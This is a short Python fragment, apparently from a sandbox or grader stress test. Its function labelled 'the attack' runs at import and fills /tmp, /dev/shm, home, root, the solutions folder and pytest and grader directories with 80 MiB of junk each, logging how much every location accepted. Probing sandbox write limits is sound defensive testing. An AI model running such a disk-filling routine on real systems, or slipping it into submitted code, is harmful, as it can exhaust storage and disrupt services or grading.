"""Writes 80 MiB (1 MiB files, and one big file) into every place it might write: /tmp,
/dev/shm, $HOME, its cwd, /var/tmp, beside its own file, the repository, RESULTS globs."""
# ---- the attack ----
def attack():
    chunk = b"x" * (1 << 20)
    places = ["/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd(), "/var/tmp", "/run", "/",
              os.path.dirname(os.path.realpath(__file__)), "/work/main", "/work/main/solutions"]
    places += glob.glob("/tmp/pytest-of-*/*") + glob.glob("/tmp/grader-*")
    for folder in dict.fromkeys(places):
        written = 0
        try:
            with open(os.path.join(folder, f"{_MARK}-fill-big"), "wb") as f:
                for _ in range(80):
                    f.write(chunk)
                    written += 1
        except OSError as exc:
            _note(f"big file in {folder} after {written} MiB", exc.strerror)
        files = 0
        for i in range(80):
            try:
                with open(os.path.join(folder, f"{_MARK}-fill-{i}"), "wb") as f:
                    f.write(chunk)
                files += 1
            except OSError as exc:
                _note(f"files in {folder} after {files} MiB", exc.strerror)
                break
        if files >= 80:
            _note(folder, "80 MiB written")


_try("attack at import", attack)
